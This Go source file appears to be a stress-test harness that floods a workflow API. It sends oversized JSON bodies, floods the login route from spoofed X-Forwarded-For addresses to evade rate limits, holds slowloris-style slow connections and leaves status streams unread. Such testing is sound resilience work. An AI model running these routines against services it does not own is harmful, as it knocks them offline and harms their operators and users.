package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// attack begins every attack and repeats each until stop.
func (a *attacker) attack(ctx context.Context) (stop func()) {
	ctx, cancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	save := "/workflows/" + a.workflow + "/save"
	objects := `{"edges":[],"nodes":[` + strings.Repeat("{},", 3_300_000) + `{}]}` // 9.9 MB
	keys := manyKeys(900_000)
	repeat := func(n int, f func(i int)) {
		for i := range n {
			wg.Go(func() {
				for ctx.Err() == nil {
					f(i)
					_ = pause(ctx, tiredOf)
				}
			})
		}
	}
	repeat(8, func(int) { a.count(a.send(ctx, http.MethodPost, save, objects, "")) })
	repeat(8, func(int) { a.count(a.send(ctx, http.MethodPost, save, a.large, "")) })
	repeat(25, func(i int) { a.count(a.send(ctx, http.MethodPost, "/auth/login", keys, address(i))) })
	repeat(300, func(i int) { a.slowBody(ctx, address(i%30)) })
	repeat(1, func(int) {
		for range 12 {
			a.count(a.send(ctx, http.MethodPost, "/workflows/"+a.workflow+"/versions", "{}", ""))
		}
	})
	repeat(4, func(int) { a.count(a.send(ctx, http.MethodGet, "/workflows/"+a.workflow+"/versions?limit=50", "", "")) })
	repeat(20, func(int) { a.unreadStream(ctx) })
	return func() { cancel(); wg.Wait(); a.http.CloseIdleConnections() }
}

// address is one that a client may have behind a proxy.
func address(i int) string { return fmt.Sprintf("198.51.100.%d", i+1) }

// manyKeys returns an object with n distinct keys, 12 MB for 900,000.
func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"k%d":1`, i)
	}
	return "{" + b.String()[1:] + "}"
}

func (a *attacker) count(status int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.got[status]++
}

// send sends one request and drops the answer. Without an answer the status is 0.
func (a *attacker) send(ctx context.Context, method, path, body, from string) (status int) {
	req, err := http.NewRequestWithContext(ctx, method, a.Base+path, strings.NewReader(body))
	if err != nil {
		return 0
	}
	req.Header.Set("Content-Type", "application/json")
	if from == "" {
		req.Header.Set("Authorization", "Bearer "+a.Token)
	} else {
		req.Header.Set("X-Forwarded-For", from)
	}
	res, err := a.http.Do(req)
	if err != nil {
		return 0
	}
	defer res.Body.Close()
	_, _ = io.Copy(io.Discard, res.Body)
	return res.StatusCode
}

// slowBody sends most of a body that a public route takes, and then a byte each
// second.
func (a *attacker) slowBody(ctx context.Context, from string) {
	conn := a.dial(ctx, "POST /v1/api/auth/login", "Transfer-Encoding: chunked\r\nContent-Type: application/json\r\nX-Forwarded-For: "+from)
	if conn == nil {
		return
	}
	defer conn.Close()
	text := `{"email":"` + strings.Repeat("a", 60<<10)
	_, err := fmt.Fprintf(conn, "%x\r\n%s\r\n", len(text), text)
	for err == nil && pause(ctx, time.Second) == nil {
		_, err = io.WriteString(conn, "1\r\na\r\n")
	}
}

// unreadStream opens the status stream of the large workflow and reads nothing.
func (a *attacker) unreadStream(ctx context.Context) {
	conn := a.dial(ctx, "GET /v1/api/workflows/"+a.workflow+"/status/stream", "Authorization: Bearer "+a.Token)
	if conn == nil {
		return
	}
	defer conn.Close()
	_ = pause(ctx, 2*tiredOf)
}

// dial begins a request; nil is a failure.
func (a *attacker) dial(ctx context.Context, request, header string) net.Conn {
	host := strings.TrimSuffix(strings.TrimPrefix(a.Base, "http://"), "/v1/api")
	conn, err := (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", host)
	if err != nil {
		return nil
	}
	_, _ = fmt.Fprintf(conn, "%s HTTP/1.1\r\nHost: %s\r\n%s\r\n\r\n", request, host, header)
	return conn
}
